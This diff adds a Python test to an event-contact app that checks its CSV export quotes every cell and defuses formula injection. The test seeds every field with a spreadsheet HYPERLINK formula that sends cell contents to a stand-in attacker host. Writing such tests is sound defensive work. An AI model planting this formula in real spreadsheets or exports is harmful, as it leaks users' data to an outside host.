@@ -4,6 +4,7 @@ import csv
 import html
 import io
 import json
+import re
 
 from eventmate.badges import parse_vcard_bytes
 from eventmate.models import Contact, Event, LoginSession, User
@@ -138,3 +139,50 @@ def test_delete_account_removes_everything_i_own(app, ana, ben, accounts, make_c
     assert names == ["Shared"]
     assert accounts.login(make_client()).status_code == 302  # Ana still fine
     assert accounts.login(make_client(), email="ben@example.org").status_code == 400
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_the_csv_quotes_every_cell_and_starts_no_formula_in_any_field(app, ben, accounts):
+    """Hostile text in every exported field, at the start and after each cell start."""
+    from eventmate.extensions import db
+    from eventmate.models import Tag
+
+    def hostile(field: str) -> str:
+        return f"{HOSTILE}\n@{field}\t-1,+2; =3"
+
+    owner = accounts.user("ben@example.org")
+    with app.app_context():
+        event = Event(name=hostile("event")[:120], created_by_id=owner.id)
+        tag = Tag(owner_id=owner.id, name="+tag", key="+tag")
+        contact = Contact(
+            owner_id=owner.id,
+            source="to_identify",
+            full_name=hostile("name"),
+            title=hostile("title"),
+            company=hostile("company"),
+            emails=[hostile("email")],
+            phones=["+351 912 345 678", hostile("phone")],
+            urls=[hostile("url")],
+            raw_payload=hostile("payload"),
+            notes=hostile("notes"),
+            event=event,
+            tags=[tag],
+        )
+        db.session.add(contact)
+        db.session.commit()
+
+    body = ben.get("/account/export/contacts.csv").get_data(as_text=True)
+    rows = list(csv.reader(io.StringIO(body)))
+    every_cell_quoted = io.StringIO()
+    csv.writer(every_cell_quoted, quoting=csv.QUOTE_ALL).writerows(rows)
+    assert body == every_cell_quoted.getvalue()
+    [row] = csv.DictReader(io.StringIO(body))
+    assert row["phones"].startswith("'+351 912 345 678; '=HYPERLINK(")
+    assert row["tags"] == "'+tag"
+    for column, value in row.items():
+        for start in re.split(r"[\t\r\n,;]", value):
+            assert not start.lstrip().startswith(("=", "+", "-", "@")), (column, start)
+    carried = [column for column, value in row.items() if HOSTILE[1:] in value]
+    assert carried == ["name", "title", "company", "emails", "phones", "urls", "event", "notes"]
